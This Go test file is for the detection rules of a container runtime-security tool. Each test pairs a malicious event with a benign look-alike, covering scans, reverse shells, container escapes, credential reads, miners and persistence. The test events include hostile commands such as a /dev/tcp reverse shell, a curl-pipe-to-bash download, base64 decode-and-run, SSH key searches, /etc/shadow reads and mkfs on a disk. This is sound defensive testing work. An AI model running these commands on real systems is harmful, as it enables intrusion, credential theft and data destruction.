package detect_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"sekisho"
	"sekisho/enforce/detect"
	"sekisho/i18n"
)

// pair is an event that a rule is for, and one like it that it is not for.
type pair struct {
	bad, good *sekisho.Event
}

// scan are connections of a program to ports of a host, the last of which is
// the one too many.
func scan(ports int) (out []*sekisho.Event) {
	for i := range ports {
		out = append(out, tcp(fmt.Sprintf("10.9.9.9:%d", 1000+i), "worker"))
	}
	return out
}

// sweep are connections to one port of many hosts.
func sweep(hosts int, line string) (out []*sekisho.Event) {
	for i := range hosts {
		out = append(out, tcp(fmt.Sprintf("10.9.%d.%d:22", i/200, 1+i%200), line))
	}
	return out
}

// TestScan holds that many ports of one host are a scan, and that what
// proxies, monitors and clients do is none.
func TestScan(t *testing.T) {
	set := load(t, false, detect.BuiltIn()...)
	again := slices.Repeat(scan(1), 100)
	slow := scan(100)
	for i, e := range slow {
		e.Time = start.Add(time.Duration(i) * 10 * time.Second)
	}
	for name, c := range map[string]struct {
		events []*sekisho.Event
		want   bool
	}{"ports": {scan(30), true}, "few ports": {scan(10), false}, "one port": {again, false}, "a monitor": {sweep(200, "prometheus"), false}, "a shell": {sweep(60, "nc"), true}, "slowly": {slow, false}} {
		if got := slices.Contains(fired(set, c.events...), "network-scan"); got != c.want {
			t.Errorf("%s: a scan is %v, want %v", name, got, c.want)
		}
	}
	m := set.NewMatcher(nil, "")
	list := scan(8)
	if n := testing.AllocsPerRun(100, func() {
		for _, e := range list {
			m.Match(e)
		}
	}); n > 0 {
		t.Errorf("counting allocates %v times", n)
	}
}

// dials is a connection of a process that is the parent of others.
func dials(line string) *sekisho.Event {
	e := tcp(away+"4444", line)
	e.Process.ID = 77
	return e
}

// childOf makes the parent of a program the process of dials.
func childOf(e *sekisho.Event) { e.Process.Parent.ID = 77 }

// TestServedConnection holds that a server that answers on its standard output,
// as inetd and httpd of busybox do, is none of a reverse shell's, and that one
// which went out, or a shell on one that came in, is.
func TestServedConnection(t *testing.T) {
	set := load(t, false, detect.BuiltIn()...)
	dup := func(local, remote string) *sekisho.Event {
		return conn(sekisho.EventDup, "tcp", remote, "httpd -f"+below, result(0), func(e *sekisho.Event) { e.Net.Local = netip.MustParseAddrPort(local) })
	}
	for name, c := range map[string]struct {
		event *sekisho.Event
		rule  string
		want  bool
	}{
		"served":       {dup("10.0.0.2:8080", "10.0.0.1:51306"), "reverse-shell-redirect", false},
		"went out":     {dup("10.0.0.2:51306", away+"4444"), "reverse-shell-redirect", true},
		"a high port":  {dup("10.0.0.2:51306", away+"44444"), "reverse-shell-redirect", true},
		"a shell then": {exec("sh"+below, sockets(3)), "reverse-shell", true},
	} {
		if got := slices.Contains(fired(set, c.event), c.rule); got != c.want {
			t.Errorf("%s: %s is %v, want %v", name, c.rule, got, c.want)
		}
	}
}

const below = " < worker < containerd-shim"

func sockets(bits uint8) mod { return func(e *sekisho.Event) { e.Process.Sockets = bits } }
func unix(path string) mod {
	return func(e *sekisho.Event) { e.Net = &sekisho.EventConn{Protocol: "unix", Unix: path}; e.File = 4 }
}
func from(o string) mod     { return func(e *sekisho.Event) { e.Origin = o } }
func exeAt(path string) mod { return func(e *sekisho.Event) { e.Process.Path = path } }
func named(n string) mod    { return func(e *sekisho.Event) { e.Net.Name = n } }

func dns(name, line string) *sekisho.Event { return file(sekisho.EventDNS, name, "", line) }
func reads(path, line string) *sekisho.Event {
	return open(path, 0, line+below)
}
func writes(path, line string, mods ...mod) *sekisho.Event {
	return open(path, write|create|trunc, line+below, mods...)
}
func upper(e *sekisho.Event) { e.Process.Origin = sekisho.OriginUpper }
func tcp(remote, line string, mods ...mod) *sekisho.Event {
	return conn(sekisho.EventConnect, "tcp", remote, line+below, mods...)
}

const away = "198.51.100.7:"

func executionPairs() map[string]pair {
	return map[string]pair{
		"reverse-shell":                {exec("bash -i < java < containerd-shim", sockets(7)), exec("bash -l < sshd < systemd", sockets(7))},
		"reverse-shell-command":        {exec("bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" + below), exec("nc -z db 5432" + below)},
		"reverse-shell-redirect":       {conn(sekisho.EventDup, "tcp", away+"4444", "python3 x.py"+below, result(0)), conn(sekisho.EventDup, "tcp", away+"443", "python3 x.py"+below, result(9))},
		"interactive-shell":            {exec("sh < containerd-shim", tty), exec("sh -c true < containerd-shim")},
		"service-spawns-shell":         {exec("sh -c id < nginx < containerd-shim"), exec("sh -c id < entrypoint.sh < containerd-shim")},
		"download-and-run":             {exec("sh -c curl -s http://198.51.100.7/a | bash" + below), exec("sh -c curl -sf http://localhost/health | grep ok" + below)},
		"decode-and-run":               {exec("sh -c echo aWQK | base64 -d | sh" + below), exec("sh -c echo aWQK | base64 -d > /tmp/config" + below)},
		"fileless-memfd":               {exec("memfd:x"+below, origin(sekisho.OriginMemory)), exec("runc init < containerd-shim", origin(sekisho.OriginMemory), exeAt("/memfd:runc_cloned:/proc/self/exe (deleted)"))},
		"fileless-deleted":             {exec("/tmp/x"+below, origin(sekisho.OriginDeleted)), exec("/tmp/x" + below)},
		"execution-from-shared-memory": {exec("/dev/shm/x"+below, origin(sekisho.OriginMemory)), exec("/usr/bin/x /dev/shm/data" + below)},
		"drift-execution":              {exec("/tmp/x"+below, upper), exec("/usr/bin/cc1 x.c < gcc < buildkitd", upper)},
		"drift-library":                {file(sekisho.EventMap, "/tmp/x.so", "", "worker"+below, from(sekisho.OriginUpper)), file(sekisho.EventMap, "/usr/lib/x.so", "", "worker"+below, from(sekisho.OriginImage))},
		"package-manager":              {exec("apk add curl" + below), exec("apk add curl < sh < runc < buildkitd")},
		"package-manager-language":     {exec("python3 /usr/bin/pip install x" + below), exec("python3 manage.py runserver" + below)},
		"compat-calls":                 {exec("worker32"+below, func(e *sekisho.Event) { e.Compat = true }), exec("worker" + below)},
		"relayed-shell":                {exec("sh < relay"+below, childOf), exec("sh -c true < relay"+below, childOf)},
		"masquerade":                   {exec("kworker/0:1 -c x"+below, func(e *sekisho.Event) { e.Process.Name = "kworker/0:1" }), exec("[ -f x ]"+below, exeAt("/usr/bin/["))},
		"preload-environment":          {exec("ls"+below, env("LD_PRELOAD=/tmp/x.so")), exec("ruby x.rb"+below, env("LD_PRELOAD=/usr/lib/libjemalloc.so.2"))},
	}
}

func miningPairs() map[string]pair {
	return map[string]pair{
		"miner-process":   {exec("worker --url stratum+tcp://pool.example:3333 -u x" + below), exec("worker --url amqp://queue:5672" + below)},
		"miner-pool-name": {dns("gulf.moneroocean.stream", "worker"+below), dns("api.example.com", "worker"+below)},
		"miner-pool-port": {tcp(away+"3333", "/tmp/x", upper), tcp(away+"3333", "worker")},
	}
}

func escapePairs() map[string]pair {
	const shim = "runc init < containerd-shim"
	return map[string]pair{
		"escape-release-agent":  {writes("/tmp/cg/release_agent", "sh"), writes("/tmp/cg/cgroup.procs", "sh")},
		"escape-kernel-helper":  {writes("/proc/sys/kernel/core_pattern", "sh"), reads("/proc/sys/kernel/core_pattern", "sh")},
		"escape-runtime-socket": {event(sekisho.EventConnect, "curl"+below, unix("/var/run/docker.sock")), event(sekisho.EventConnect, "psql"+below, unix("/var/run/postgresql/.s.PGSQL.5432"))},
		"escape-namespace":      {event(sekisho.EventSetns, "sh"+below, flags(0x20000)), event(sekisho.EventSetns, shim, flags(0x20000))},
		"escape-user-namespace": {event(sekisho.EventUnshare, "sh"+below, flags(0x10000000)), event(sekisho.EventUnshare, "chrome"+below, flags(0x10000000))},
		"escape-mount":          {file(sekisho.EventMount, "/mnt", "/dev/vda1", "mount"+below), file(sekisho.EventMount, "/proc", "proc", shim)},
		"escape-host-root":      {reads("/proc/1/root/etc/hostname", "cat"), reads("/proc/self/status", "cat")},
		"escape-device":         {reads("/dev/vda1", "debugfs"), reads("/dev/urandom", "worker")},
		"escape-file-handle":    {file(sekisho.EventOpen, "/etc/shadow", "", "worker"+below, func(e *sekisho.Event) { e.Syscall = "open_by_handle_at" }), reads("/etc/hosts", "worker")},
		"kernel-module":         {event(sekisho.EventModule, "insmod x.ko"+below, fails(1)), event(sekisho.EventModule, "modprobe overlay < systemd", host)},
		"bpf-load":              {event(sekisho.EventBPF, "worker"+below, number(5)), event(sekisho.EventBPF, "worker"+below, number(1))},
		"page-fault-handler":    {event(sekisho.EventFault, "x"+below, call("userfaultfd"), user("app", 1000), result(4)), event(sekisho.EventFault, "java"+below, call("userfaultfd"), user("app", 1000), result(4))},
		"container-client":      {exec("kubectl get pods" + below), exec("kubectl get pods < bash", host)},
		"chroot-host":           {exec("chroot /host bash" + below), exec("chroot --userspec=www /srv/jail worker" + below)},
	}
}

func credentialPairs() map[string]pair {
	return map[string]pair{
		"credential-shadow":          {reads("/etc/shadow", "cat"), reads("/etc/shadow", "su")},
		"credential-cloud":           {reads("/root/.aws/credentials", "cat"), reads("/root/.aws/credentials", "terraform")},
		"credential-service-account": {reads("/run/secrets/kubernetes.io/serviceaccount/token", "cat"), reads("/run/secrets/kubernetes.io/serviceaccount/token", "operator")},
		"credential-environment":     {reads("/proc/12/environ", "cat"), reads("/proc/self/environ", "worker")},
		"credential-ssh-key":         {reads("/root/.ssh/id_ed25519", "cat"), reads("/root/.ssh/id_ed25519", "ssh")},
		"credential-search":          {exec("find / -name id_rsa" + below), exec("find /var/cache -name *.tmp -delete" + below)},
		"credential-memory":          {reads("/proc/12/mem", "x"), reads("/proc/meminfo", "x")},
		"metadata-service":           {tcp("169.254.169.254:80", "curl"), tcp("10.0.0.254:80", "curl")},
		"ptrace-injection":           {event(sekisho.EventPtrace, "x"+below, number(16)), event(sekisho.EventPtrace, "x"+below, number(0))},
	}
}

func persistencePairs() map[string]pair {
	return map[string]pair{
		"immutable-file":     {event(sekisho.EventCapability, "worker"+below, number(9)), exec("chattr -R =e /srv" + below)},
		"preload-file":       {writes("/etc/ld.so.preload", "sh"), reads("/etc/ld.so.preload", "ls")},
		"account-change":     {writes("/etc/passwd", "sh"), open("/etc/passwd", write, "useradd < postinst < dpkg < apt-get < sh < buildkitd")},
		"scheduled-job":      {writes("/etc/cron.d/x", "sh"), reads("/etc/cron.d/x", "cron")},
		"ssh-authorized-key": {writes("/root/.ssh/authorized_keys", "sh"), reads("/root/.ssh/authorized_keys", "sshd")},
		"shell-profile":      {writes("/root/.bashrc", "sh"), reads("/root/.bashrc", "bash")},
		"binary-changed":     {writes("/usr/bin/ls", "sh"), open("/usr/bin/ls", write, "dpkg < apt-get < sh < buildkitd")},
		"setuid-bit":         {file(sekisho.EventChmod, "/tmp/x", "", "chmod"+below, mode(0o4755)), file(sekisho.EventChmod, "/tmp/x", "", "chmod"+below, mode(0o755))},
		"pkexec-exploit":     {exec("pkexec"+below, func(e *sekisho.Event) { e.Process.Args = nil }), exec("pkexec ls" + below)},
		"loader-tunables":    {exec("su root"+below, env("GLIBC_TUNABLES=glibc.malloc.mxfast=x")), exec("worker"+below, env("GLIBC_TUNABLES=glibc.malloc.arena_max=2"))},
		"log-tampering":      {writes("/var/log/auth.log", "sh"), writes("/var/log/nginx/access.log", "nginx")},
		"history-tampering":  {file(sekisho.EventUnlink, "/root/.bash_history", "", "rm"+below), writes("/root/.bash_history", "bash")},
		"data-destruction":   {exec("mkfs.ext4 /dev/vda1" + below), exec("rm -rf /tmp/cache" + below)},
	}
}

func networkPairs() map[string]pair {
	long := strings.Repeat("a1b2c3d4e5f6a7b8.", 10) + "t.example.com"
	return map[string]pair{
		"network-scan":      {tcp("10.9.9.9:80", "worker"), tcp("10.9.9.9:80", "worker")},
		"network-scan-tool": {exec("nmap -sS 10.0.0.0/24" + below), exec("curl http://api" + below)},
		"packet-socket":     {event(sekisho.EventSocket, "x"+below, domain(17, 3)), event(sekisho.EventSocket, "x"+below, domain(2, 1))},
		"remote-copy":       {exec("scp x user@host:" + below), exec("cp x y" + below)},
		"onion-service":     {dns("expyuzz4wqqyqhjn.onion", "worker"+below), dns("onion.example.com", "worker"+below)},
		"dns-tunnel":        {dns(long, "worker"+below), dns("very.long.but.ordinary.name.of.a.service.in.some.namespace.svc.cluster.local", "worker"+below)},
		"io-uring-drift":    {event(sekisho.EventIOUring, "/tmp/x"+below, number(16), upper), event(sekisho.EventIOUring, "postgres"+below, number(16))},
		"network-drift":     {tcp(away+"443", "/tmp/x", upper), tcp(away+"443", "worker")},
		"shell-connects":    {tcp(away+"4444", "bash"), tcp("10.0.0.8:5432", "bash")},
	}
}

func pairs() map[string]pair {
	all := map[string]pair{}
	for _, m := range []map[string]pair{executionPairs(), miningPairs(), escapePairs(), credentialPairs(), persistencePairs(), networkPairs()} {
		for name, p := range m {
			all[name] = p
		}
	}
	return all
}

// TestBuiltIn holds that each of our rules is for what it says and not for
// what only looks like it, is mapped to ATT&CK, and has words.
func TestBuiltIn(t *testing.T) {
	set := load(t, false, detect.BuiltIn()...)
	for _, p := range set.Problems {
		t.Error(p)
	}
	all := pairs()
	for _, r := range set.Rules {
		p, ok := all[r.Name]
		before := []*sekisho.Event{}
		switch r.Name {
		case "network-scan":
			before = scan(30)
		case "relayed-shell":
			before = []*sekisho.Event{dials("relay" + below)}
		}
		if !ok {
			t.Errorf("%s has no test events", r.Name)
			continue
		}
		delete(all, r.Name)
		if got := fired(set, append(before, p.bad)...); !slices.Contains(got, r.Name) {
			t.Errorf("%s does not hold for what it is for; holding: %v", r.Name, got)
		}
		if got := fired(set, p.good); slices.Contains(got, r.Name) {
			t.Errorf("%s holds for what it is not for", r.Name)
		}
		if len(r.MITRE) == 0 || !slices.ContainsFunc(r.Tags, func(s string) bool { return strings.HasPrefix(s, "mitre_") }) {
			t.Errorf("%s names no tactic and technique: %v", r.Name, r.Tags)
		}
		for _, lang := range i18n.Languages() {
			for _, part := range []string{"title", "why", "fix"} {
				if key := "rule." + r.Name + "." + part; !i18n.New(lang).Has(key) {
					t.Errorf("%s has no text in %s", key, lang)
				}
			}
		}
	}
	for name := range all {
		t.Errorf("test events for %s, which is no rule", name)
	}
}
